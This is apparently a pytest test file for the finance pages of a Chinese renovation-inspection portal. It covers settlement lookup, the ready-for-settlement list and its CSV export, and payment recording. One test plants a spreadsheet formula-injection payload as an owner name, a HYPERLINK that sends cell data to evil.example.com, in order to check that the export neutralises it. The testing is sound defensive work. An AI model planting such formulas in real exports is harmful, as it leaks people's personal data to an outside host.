"""Finance pages: the settlement lookup (by 档案号, address or owner, with each project's status and
whether the settlement may be paid), the list of projects ready for settlement (and its CSV), and
recording a payment — after which revoking the certificate needs an explicit confirmation.

Finance users here read English pages, so the texts can be asserted whatever the zh catalogue has.
"""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from portal.auth.roles import Role
from portal.certificates import services
from portal.certificates.models import PassCertificate
from portal.finance.models import SettlementPayment
from portal.extensions import db
from portal.timeutil import local_today, to_local
from tests.factories import (
    fake_pdf, issue_certificate, make_failed_inspection, make_finished_inspection, make_inspection, make_payment,
    make_project, make_signed_inspection, make_user,
)


def english_user(role: Role):
    user = make_user(role)
    user.locale = "en"
    return user


@pytest.fixture
def finance(login_as):
    """A finance user (English pages), logged in."""
    return login_as(english_user(Role.FINANCE))


def certified(storage, **project_fields) -> PassCertificate:
    project = make_project(**project_fields)
    return issue_certificate(make_signed_inspection(storage=storage, project=project), storage=storage,
                             render=fake_pdf)


def row_of(html: str, contract_no: str) -> str:
    """The result row of one project."""
    rows = re.findall(r'<li class="list-item">.*?</li>', html, re.S)
    matching = [row for row in rows if contract_no in row]
    assert len(matching) == 1, (contract_no, rows)
    return matching[0]


def allowed_badge(row: str) -> str:
    return re.search(r'class="badge [^"]* settlement" data-allowed="(yes|no)"', row).group(1)


def lookup(client, q: str) -> str:
    response = client.get("/finance/", query_string={"q": q})
    assert response.status_code == 200
    return response.text


# --- the lookup -------------------------------------------------------------------------------

def test_search_by_contract_no_address_or_owner(client, finance, storage):
    certificate = certified(storage, address="西安市碑林区南关正街中贸广场7号楼2204室", owner_name="冯晓燕")
    other = make_project(address="西安市未央区凤城八路首创国际城5号楼903室", owner_name="郑海涛")
    db.session.commit()
    contract_no = certificate.project.contract_no
    for q in (contract_no, contract_no.lower(), "中贸广场", "冯晓燕"):
        html = lookup(client, q)
        assert contract_no in html, q
        assert other.contract_no not in html, q
    assert other.contract_no in lookup(client, "郑海涛")


def test_statuses_and_whether_settlement_is_allowed(client, finance, storage):
    nothing = make_project()
    running = make_inspection().project
    failed, notice = make_failed_inspection()
    overdue, late_notice = make_failed_inspection()
    late_notice.deadline = local_today() - timedelta(days=3)
    pending = make_finished_inspection().project
    valid = certified(storage)
    revoked = certified(storage)
    services.revoke(revoked, make_user(Role.OFFICE), "发现渗漏")
    db.session.commit()

    expected = {
        nothing.contract_no: ("Not yet inspected", "no", "Settlement not allowed: no pre-acceptance yet."),
        running.contract_no: ("Inspected, not passed yet", "no", "Settlement not allowed: pre-acceptance not passed."),
        failed.project.contract_no: (f"In rectification (round 1), deadline {notice.deadline.isoformat()}", "no",
                                     "Settlement not allowed: rectification is open."),
        overdue.project.contract_no: (f"In rectification (round 1), deadline {late_notice.deadline.isoformat()}",
                                      "no", "Settlement not allowed: rectification is open."),
        pending.contract_no: ("Passed (Excellent), certificate not issued yet", "no",
                              "Settlement not allowed: the office has not issued the certificate yet."),
        valid.project.contract_no: (f"certificate {valid.number}", "yes",
                                    "Settlement allowed: valid pass certificate."),
        revoked.project.contract_no: (f"Certificate {revoked.number} revoked", "no",
                                      "Settlement not allowed: the certificate was revoked."),
    }
    for contract_no, (status, allowed, reason) in expected.items():
        row = row_of(lookup(client, contract_no), contract_no)
        assert status in row, (contract_no, row)
        assert allowed_badge(row) == allowed, contract_no
        assert reason in row, (contract_no, row)
        assert ("Overdue" in row) == (contract_no == overdue.project.contract_no), contract_no
    valid_row = row_of(lookup(client, valid.project.contract_no), valid.project.contract_no)
    assert f'href="/verify/{valid.number}"' in valid_row


def test_a_passed_project_shows_grade_certificate_and_date(client, finance, storage):
    certificate = certified(storage)
    db.session.commit()
    row = row_of(lookup(client, certificate.project.contract_no), certificate.project.contract_no)
    assert "Excellent" in row and certificate.number in row
    assert f"{to_local(certificate.issued_at):%Y-%m-%d}" in row


def test_the_chinese_page_shows_the_grade_in_chinese(client, login_as, storage):
    certificate = certified(storage)
    login_as(Role.FINANCE)
    row = row_of(lookup(client, certificate.project.contract_no), certificate.project.contract_no)
    assert "优秀" in row and 'data-allowed="yes"' in row


def test_only_the_finance_role_gets_the_payment_form(client, login_as, storage):
    certificate = certified(storage)
    db.session.commit()
    contract_no = certificate.project.contract_no
    action = f'/finance/projects/{certificate.project_id}/payment'
    login_as(english_user(Role.FINANCE))
    assert action in lookup(client, contract_no)
    login_as(english_user(Role.OFFICE))
    html = lookup(client, contract_no)
    assert contract_no in html and action not in html


def test_no_payment_form_where_settlement_is_not_allowed(client, finance):
    project = make_finished_inspection().project
    db.session.commit()
    assert f"/finance/projects/{project.id}/payment" not in lookup(client, project.contract_no)


def test_an_empty_search_asks_for_input_and_a_miss_says_so(client, finance):
    assert "Enter a contract number" in lookup(client, "")
    assert "No project matches" in lookup(client, "Q99999999")


def test_wildcards_are_taken_literally(client, finance):
    make_project()
    db.session.commit()
    html = lookup(client, "%")
    assert "No project matches" in html
    assert "list-item" not in lookup(client, "_")


def test_htmx_gets_the_results_fragment(client, finance, storage):
    certificate = certified(storage)
    db.session.commit()
    response = client.get("/finance/", query_string={"q": certificate.project.contract_no},
                          headers={"HX-Request": "true", "HX-Target": "finance-results"})
    assert response.status_code == 200
    assert response.text.lstrip().startswith('<section id="finance-results"')
    assert "<html" not in response.text and 'data-allowed="yes"' in response.text


# --- ready for settlement ---------------------------------------------------------------------

def ready(client, **params):
    response = client.get("/finance/ready", query_string=params)
    assert response.status_code == 200
    return response


def test_the_ready_list_holds_the_valid_certificates_of_the_period(client, finance, storage):
    valid = certified(storage)
    revoked = certified(storage)
    services.revoke(revoked, make_user(Role.OFFICE), "发现渗漏")
    pending = make_finished_inspection().project
    db.session.commit()
    today = local_today()
    html = ready(client, **{"from": today.isoformat(), "to": today.isoformat()}).text
    assert valid.project.contract_no in html and valid.number in html
    assert revoked.project.contract_no not in html and pending.contract_no not in html
    default = ready(client).text  # this month up to today
    assert valid.number in default
    later = ready(client, **{"from": (today + timedelta(days=1)).isoformat(),
                             "to": (today + timedelta(days=30)).isoformat()}).text
    earlier = ready(client, **{"from": (today - timedelta(days=30)).isoformat(),
                               "to": (today - timedelta(days=1)).isoformat()}).text
    assert valid.number not in later and valid.number not in earlier


def test_no_period_means_this_month_and_bad_dates_are_a_400_with_a_message(client, finance, storage):
    valid = certified(storage)
    db.session.commit()
    assert valid.number in ready(client).text
    for bad in ({"from": "2026-13-45"}, {"to": "yesterday"}, {"from": "0001-01-01"}, {"to": "9999-12-31"}):
        response = client.get("/finance/ready", query_string=bad)
        assert response.status_code == 400, bad
        assert "2000-01-01" in response.text or "YYYY-MM-DD" in response.text


def test_the_ready_csv_opens_in_excel(client, finance, storage):
    certificate = certified(storage, address="西安市雁塔区曲江六号3号楼2单元1502室", owner_name="周志强",
                            contract_amount=Decimal("186500.00"))
    paid = certified(storage)
    make_payment(paid.project, certificate=paid, paid_on=local_today())
    db.session.commit()
    today = local_today().isoformat()
    response = ready(client, **{"from": today, "to": today, "format": "csv"})
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so Excel reads the Chinese
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == ["Contract no.", "Address", "Owner", "Foreman", "Grade", "Certificate", "Issued",
                       "Contract amount", "Paid on"]
    by_no = {row[0]: row for row in rows[1:]}
    project = certificate.project
    assert by_no[project.contract_no] == [project.contract_no, "西安市雁塔区曲江六号3号楼2单元1502室", "周志强",
                                          project.foreman.display_name, "Excellent", certificate.number, today,
                                          "186500.00", ""]
    assert by_no[paid.project.contract_no][-1] == today


def test_the_ready_csv_does_not_hand_formulas_to_excel(client, finance, storage):
    formula = '=HYPERLINK("http://evil.example.com/?d="&A2,"点击查看")'
    certificate = certified(storage, owner_name=formula, address="+86 西安市雁塔区测试路1号")
    db.session.commit()
    today = local_today().isoformat()
    response = ready(client, **{"from": today, "to": today, "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == certificate.project.contract_no)
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row


# --- recording a payment ----------------------------------------------------------------------

def pay(client, project, **form):
    data = {"paid_on": local_today().isoformat(), "amount": "186,500.00", "reference": "招行回单 0001"}
    data.update(form)
    return client.post(f"/finance/projects/{project.id}/payment", data=data)


def payments_of(project) -> list[SettlementPayment]:
    return db.session.scalars(select(SettlementPayment).where(SettlementPayment.project_id == project.id)).all()


def test_finance_records_a_payment(client, finance, storage):
    certificate = certified(storage)
    project = certificate.project
    db.session.commit()
    response = pay(client, project)
    assert response.status_code == 302
    assert response.headers["Location"] == f"/finance/?q={project.contract_no}"
    (payment,) = payments_of(project)
    assert payment.paid_on == local_today() and payment.amount == Decimal("186500.00")
    assert payment.reference == "招行回单 0001" and payment.recorded_by_id == finance.id
    assert payment.certificate_id == certificate.id
    assert services.paid(certificate).id == payment.id


@pytest.mark.parametrize("field, value, message", [
    ("paid_on", "", "Enter the payment date."),
    ("paid_on", "2026-02-30", "Enter the payment date."),
    ("paid_on", "future", "The payment date is in the future."),
    ("amount", "", "Enter the amount paid."),
    ("amount", "abc", "Enter the amount paid."),
    ("amount", "0", "Enter the amount paid."),
    ("amount", "-100", "Enter the amount paid."),
    ("amount", "NaN", "Enter the amount paid."),
    ("amount", "Infinity", "Enter the amount paid."),
    ("amount", "1e12", "Enter the amount paid."),
    ("reference", "   ", "Enter the payment reference."),
])
def test_a_payment_needs_date_amount_and_reference(client, finance, storage, field, value, message):
    project = certified(storage).project
    db.session.commit()
    if value == "future":
        value = (local_today() + timedelta(days=5)).isoformat()
    response = pay(client, project, **{field: value})
    assert response.status_code == 422
    assert message in response.text
    assert payments_of(project) == []


def test_no_payment_without_a_valid_certificate(client, finance, storage):
    pending = make_finished_inspection().project
    revoked = certified(storage)
    services.revoke(revoked, make_user(Role.OFFICE), "发现渗漏")
    db.session.commit()
    for project, reason in ((pending, "the office has not issued the certificate yet"),
                            (revoked.project, "the certificate was revoked")):
        response = pay(client, project)
        assert response.status_code == 422 and reason in response.text
        assert payments_of(project) == []


def test_office_cannot_record_payments_and_unknown_projects_are_404(client, login_as, storage):
    project = certified(storage).project
    login_as(Role.OFFICE)
    assert pay(client, project).status_code == 403
    login_as(Role.FINANCE)
    assert client.post("/finance/projects/999999/payment", data={}).status_code == 404
    assert payments_of(project) == []


def test_after_a_payment_revoking_the_certificate_needs_confirmation(client, login_as, storage):
    certificate = certified(storage)
    project = certificate.project
    db.session.commit()
    login_as(english_user(Role.FINANCE))
    assert pay(client, project).status_code == 302

    login_as(english_user(Role.OFFICE))
    detail = client.get(f"/certificates/{certificate.number}").text
    assert "Settlement paid" in detail and "招行回单 0001" in detail
    warned = client.post(f"/certificates/{certificate.number}/revoke", data={"reason": "发现渗漏"})
    assert warned.status_code == 422
    assert "The settlement was already paid. Confirm that you revoke anyway." in warned.text
    db.session.expire_all()
    assert not db.session.get(PassCertificate, certificate.id).is_revoked

    confirmed = client.post(f"/certificates/{certificate.number}/revoke", data={"reason": "发现渗漏",
                                                                               "confirm_paid": "1"})
    assert confirmed.status_code == 302
    db.session.expire_all()
    assert db.session.get(PassCertificate, certificate.id).is_revoked
    assert db.session.scalar(select(func.count()).select_from(SettlementPayment)
                             .where(SettlementPayment.project_id == project.id)) == 1  # the payment stays

    login_as(english_user(Role.FINANCE))
    row = row_of(lookup(client, project.contract_no), project.contract_no)
    assert allowed_badge(row) == "no" and f"Certificate {certificate.number} revoked" in row
    today = local_today().isoformat()
    assert certificate.number not in ready(client, **{"from": today, "to": today}).text
